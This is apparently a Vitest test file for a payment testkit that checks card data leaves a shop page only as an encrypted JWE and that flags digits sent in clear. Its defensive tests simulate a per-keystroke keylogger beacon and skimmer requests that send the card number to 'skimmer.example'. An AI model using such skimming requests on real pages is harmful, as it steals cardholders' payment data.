/**
 * The card capture behind the Playwright fixture and the Vitest commands: real JWEs (card-jwe and
 * hand-built ones), the real reference decryptor, requests fed through an event emitter the way
 * Playwright's page emits them.
 */
import { createHash } from 'node:crypto'
import { EventEmitter } from 'node:events'
import { describe, expect, it } from 'vitest'
import { inject } from 'vitest'
import { encryptCard, importCertificate } from 'card-jwe'
import {
  captureCardRequests,
  CardCaptureError,
  EXPECTED_CARD_JWE_HEADER,
  findCardDigits,
  type CardCapture,
  type CardCaptureErrorCode,
  type RequestSource,
} from '@card-jwe/testkit/capture'
import { findTestCard } from '@card-jwe/testkit/test-cards'
import type {} from '@card-jwe/testkit/vitest-global-setup'
import { buildJwe, cardPayload } from './support/build-jwe.js'

const { valid, otherValid } = inject('cardJweTestCertificates')
const certificate = await importCertificate(valid.certificatePem)
const card = findTestCard({ brand: 'visa', threeDSecure: 'none', outcome: 'authorised' })
const typed = { number: card.number, expiryMonth: card.expiryMonth, expiryYear: card.expiryYear, securityCode: card.securityCode }
const SHOP = 'https://shop.test'

/** A page that emits requests as Playwright's does. */
function fakePage() {
  const emitter = new EventEmitter()
  return {
    source: emitter as unknown as RequestSource,
    send(method: string, url: string, body?: string) {
      emitter.emit('request', { method: () => method, url: () => url, postData: () => body ?? null })
    },
  }
}

async function started(privateKey = valid.privateKeyPem) {
  const page = fakePage()
  const capture = await captureCardRequests(page.source, { privateKey })
  return { page, capture }
}

const paymentBody = (jwe: string, extra: Record<string, unknown> = {}) =>
  JSON.stringify({ orderId: 7, paymentMethod: { type: 'scheme', encryptedCard: jwe }, ...extra })

async function failure(run: Promise<unknown> | (() => unknown)): Promise<CardCaptureError> {
  try {
    await (typeof run === 'function' ? run() : run)
  } catch (error) {
    expect(error).toBeInstanceOf(CardCaptureError)
    return error as CardCaptureError
  }
  throw new Error('expected a CardCaptureError')
}

/** No message may quote the card: not its number, not a run of it, not its code. */
function expectNoCardIn(message: string) {
  expect(message).not.toContain(card.number.slice(0, 6))
  expect(message).not.toContain(card.number.slice(-4))
  expect(message).not.toMatch(new RegExp(`\\b${card.securityCode}\\b`))
}

describe('capture: a good page', () => {
  it('takes the JWE sent to the URL, decrypted, with its exact header and a fresh generationtime', async () => {
    const { page, capture } = await started()
    page.send('GET', `${SHOP}/`)
    page.send('POST', `${SHOP}/api/orders`, '{"cart":[{"sku":"tea","quantity":1}]}')
    const jwe = await encryptCard(typed, certificate)
    page.send('POST', `${SHOP}/api/payments`, paymentBody(jwe))
    const sent = await capture.nextCard('**/api/payments', { typed })
    expect(sent.protectedHeader).toEqual(EXPECTED_CARD_JWE_HEADER)
    expect(sent.card).toMatchObject({
      number: card.number,
      cvc: card.securityCode,
      expiryMonth: card.expiryMonth,
      expiryYear: card.expiryYear,
    })
    expect(Math.abs(sent.generatedAt.getTime() - Date.now())).toBeLessThan(60_000)
    expect(sent.request).toBe('POST /api/payments')
    expect(capture.requests).toHaveLength(3)
    expect(() => capture.expectNoCardDigits([card.number])).not.toThrow()
  })

  it('waits for a request that comes later, and takes each request once', async () => {
    const { page, capture } = await started()
    const next = capture.nextCard(/\/api\/payments$/)
    setTimeout(async () => page.send('POST', `${SHOP}/api/payments`, paymentBody(await encryptCard(typed, certificate))), 20)
    expect((await next).card.number).toBe(card.number)
    expect((await failure(capture.nextCard('**/api/payments', { timeout: 50 }))).code).toBe('NO_CARD_REQUEST')
  })

  it('passes over a request the test takes as carrying no card (an iDEAL payment), and takes the card after it', async () => {
    const { page, capture } = await started()
    const ideal = JSON.stringify({ orderId: 7, paymentMethod: { type: 'ideal' } })
    page.send('POST', `${SHOP}/api/payments`, ideal)
    page.send('POST', `${SHOP}/api/payments`, paymentBody(await encryptCard(typed, certificate)))
    expect(await capture.nextRequest('**/api/payments')).toEqual({ method: 'POST', url: `${SHOP}/api/payments`, body: ideal })
    expect((await capture.nextCard('**/api/payments', { typed })).card.number).toBe(card.number)
    expect((await failure(capture.nextRequest('**/api/payments', { timeout: 50 }))).code).toBe('NO_CARD_REQUEST')
  })

  it('matches the URL by glob, RegExp or predicate and ignores the rest', async () => {
    const { page, capture } = await started()
    page.send('POST', `${SHOP}/api/analytics`, '{"event":"view"}')
    page.send('POST', `${SHOP}/api/payments`, paymentBody(await encryptCard(typed, certificate)))
    expect((await capture.nextCard((url) => url.pathname === '/api/payments')).request).toBe('POST /api/payments')
  })
})

describe('capture: clear failures that name the rule, never the card', () => {
  const cases: Array<[string, CardCaptureErrorCode, RegExp, () => Promise<string>]> = [
    ['a body without a JWE', 'NOT_A_JWE', /carries no compact JWE/, async () => paymentBody('not-a-jwe')],
    [
      'a legacy algorithm',
      'LEGACY_ALGORITHM',
      /RSA-OAEP with A256GCM.*RSA-OAEP-256 with A256GCM/,
      async () => paymentBody(await buildJwe(valid.certificatePem, cardPayload(), { alg: 'RSA-OAEP' })),
    ],
    [
      'a legacy content encryption',
      'LEGACY_ALGORITHM',
      /A128CBC-HS256/,
      async () => paymentBody(await buildJwe(valid.certificatePem, cardPayload(), { enc: 'A128CBC-HS256' })),
    ],
    [
      'a generationtime older than the service accepts',
      'STALE_GENERATION_TIME',
      /generationtime is 25\.0 h old; the service accepts 24 h at most/,
      async () =>
        paymentBody(
          await buildJwe(valid.certificatePem, cardPayload({ generationtime: new Date(Date.now() - 25 * 3600_000).toISOString() })),
        ),
    ],
    [
      'a JWE made before the capture began (reused)',
      'STALE_GENERATION_TIME',
      /before this test's capture began: the page sent a JWE made earlier/,
      async () => paymentBody(await encryptCard(typed, certificate, { now: () => new Date(Date.now() - 600_000) })),
    ],
    [
      'a JWE for another certificate',
      'UNDECRYPTABLE',
      /reference decryptor refused/,
      async () => paymentBody(await encryptCard(typed, await importCertificate(otherValid.certificatePem))),
    ],
    [
      'two JWEs in one body',
      'NOT_A_JWE',
      /2 JWEs; one card is one JWE/,
      async () => {
        const jwe = await encryptCard(typed, certificate)
        return paymentBody(jwe, { again: jwe })
      },
    ],
  ]
  it.each(cases)('%s: %s', async (_name, code, message, body) => {
    const { page, capture } = await started()
    page.send('POST', `${SHOP}/api/payments?order=7`, await body())
    const error = await failure(capture.nextCard('**/api/payments*'))
    expect(error.code).toBe(code)
    expect(error.message).toMatch(/^POST \/api\/payments: /)
    expect(error.message).toMatch(message)
    expectNoCardIn(error.message)
  })

  it.each([
    [
      'number',
      { ...typed, number: card.number.slice(0, -1) + String((Number(card.number.slice(-1)) + 1) % 10) },
      /number: digit 16 of 16 differs/,
    ],
    ['number length', { ...typed, number: `${card.number}0` }, /number: 16 digits encrypted, 17 typed/],
    ['expiry month', { ...typed, expiryMonth: '04' }, /expiryMonth: not the typed month/],
    ['security code', { ...typed, securityCode: '000' }, /cvc: not the typed security code/],
  ])('a card other than the typed one (%s): CARD_MISMATCH', async (_name, other, message) => {
    const { page, capture } = await started()
    page.send('POST', `${SHOP}/api/payments`, paymentBody(await encryptCard(typed, certificate)))
    const error = await failure(capture.nextCard('**/api/payments', { typed: other }))
    expect(error.code).toBe('CARD_MISMATCH')
    expect(error.message).toMatch(message)
    expectNoCardIn(error.message)
  })
})

describe('capture: card digits in clear', () => {
  const formatted = card.number.replace(/(\d{4})(?=\d)/g, '$1 ')
  const leaks: Array<[string, (jwe: string) => [url: string, body: string]]> = [
    ['the number beside the JWE', (jwe) => [`${SHOP}/api/payments`, paymentBody(jwe, { number: card.number })]],
    ['the number as formatted on screen', (jwe) => [`${SHOP}/api/payments`, paymentBody(jwe, { display: formatted })]],
    ['the number in the query, percent-encoded', (jwe) => [`${SHOP}/api/payments?n=${encodeURIComponent(formatted)}`, paymentBody(jwe)]],
    [
      'the number split over two fields',
      (jwe) => [`${SHOP}/api/payments`, paymentBody(jwe, { a: card.number.slice(0, 8), b: card.number.slice(8) })],
    ],
    ['the number digit by digit in an array', (jwe) => [`${SHOP}/api/payments`, paymentBody(jwe, { d: [...card.number].map(Number) })]],
    ['the first six (BIN)', (jwe) => [`${SHOP}/api/payments`, paymentBody(jwe, { bin: card.number.slice(0, 6) })]],
  ]
  it.each(leaks)('%s: CARD_DIGITS_IN_CLEAR', async (_name, leak) => {
    const { page, capture } = await started()
    const [url, body] = leak(await encryptCard(typed, certificate))
    page.send('POST', url, body)
    const error = await failure(capture.nextCard('**/api/payments*'))
    expect(error.code).toBe('CARD_DIGITS_IN_CLEAR')
    expect(error.message).toMatch(/^POST \/api\/payments: the (body|url) carried (the card number|part of the card number) in clear/)
    expectNoCardIn(error.message)
  })

  it('a key logger: one digit per beacon, across requests', async () => {
    const { page, capture } = await started()
    for (const digit of card.number) page.send('POST', `${SHOP}/api/analytics`, JSON.stringify({ key: digit }))
    page.send('POST', `${SHOP}/api/payments`, paymentBody(await encryptCard(typed, certificate)))
    const error = await failure(capture.nextCard('**/api/payments'))
    expect(error.code).toBe('CARD_DIGITS_IN_CLEAR')
    expect(error.message).toMatch(/17 requests: the page's requests carried the card number in clear, a few digits per request/)
  })

  it('a leak after the card was taken is still found by expectNoCardDigits', async () => {
    const { page, capture } = await started()
    page.send('POST', `${SHOP}/api/payments`, paymentBody(await encryptCard(typed, certificate)))
    await capture.nextCard('**/api/payments')
    page.send('GET', `${SHOP}/thanks?card=${card.number}`)
    expect((await failure(() => capture.expectNoCardDigits())).message).toMatch(/^GET \/thanks: the url carried the card number in clear/)
  })

  it('names a request whose path carries the number without repeating it: the digits shown as #', async () => {
    const { page, capture } = await started()
    page.send('POST', `${SHOP}/api/payments`, paymentBody(await encryptCard(typed, certificate)))
    await capture.nextCard('**/api/payments')
    page.send('GET', `https://skimmer.example/c/${card.number}.gif`)
    page.send('GET', `https://skimmer.example/e/${[...card.number].map((d) => `%3${d}`).join('')}`)
    const message = (await failure(() => capture.expectNoCardDigits())).message
    expect(message).toContain(`GET /c/${'#'.repeat(card.number.length)}.gif: the url carried the card number in clear`)
    expect(message).not.toMatch(/\d{4}/)
  })

  it('does not flag what a payment page sends anyway: JWEs, order data, ids, browser info', () => {
    // Ids made the same way on every run: random ones now and then hold a run of the card's digits.
    const id = (i: number, salt: string) => {
      const hex = createHash('sha256').update(`${salt}${i}`).digest('hex')
      return `${hex.slice(0, 8)}-${hex.slice(8, 12)}-4${hex.slice(13, 16)}-a${hex.slice(17, 20)}-${hex.slice(20, 32)}`
    }
    const requests = Array.from({ length: 200 }, (_, i) => ({
      method: 'POST',
      url: `${SHOP}/api/payments?attempt=${i}`,
      body: JSON.stringify({
        orderId: 1000 + i,
        reference: `order-20261123-${id(i, 'reference').slice(0, 8)}`,
        amount: { currency: 'EUR', value: 1111 },
        idempotencyKey: id(i, 'key'),
        browserInfo: {
          screenWidth: 1920,
          screenHeight: 1080,
          colorDepth: 24,
          timeZoneOffset: -60,
          userAgent: 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/140.0.7339.80',
        },
        last4: card.number.slice(-4),
      }),
    }))
    expect(findCardDigits(requests, [card.number])).toEqual([])
  })
})

describe('capture: stopping', () => {
  it('records nothing after stop()', async () => {
    const { page, capture }: { page: ReturnType<typeof fakePage>; capture: CardCapture } = await started()
    capture.stop()
    page.send('GET', `${SHOP}/?card=${card.number}`)
    expect(capture.requests).toEqual([])
  })
})
